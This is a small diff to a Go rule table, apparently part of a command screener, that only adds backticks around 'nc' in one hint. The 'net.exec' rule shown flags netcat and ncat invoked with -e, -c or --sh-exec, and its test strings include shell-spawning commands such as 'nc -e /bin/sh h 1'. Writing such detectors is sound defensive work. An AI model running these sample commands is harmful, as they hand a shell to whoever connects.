@@ -127,7 +127,7 @@ var run = []Rule{
 	{
 		ID: "net.exec", Class: RemoteCode, Program: "nc ncat", Any: "-e -c --exec --sh-exec --lua-exec",
 		Reason: "gives a program to whoever is at the other end",
-		Hint:   "nc without -e and -c moves data only",
+		Hint:   "`nc` without -e and -c moves data only",
 		Hits:   []string{"nc -e /bin/sh h 1", "ncat --sh-exec id -l 1", "netcat -c sh h 1", "ncat -e x h 1"},
 		Misses: []string{"nc -z h 22", "nc h 80", "ncat -l 8080"},
 	},
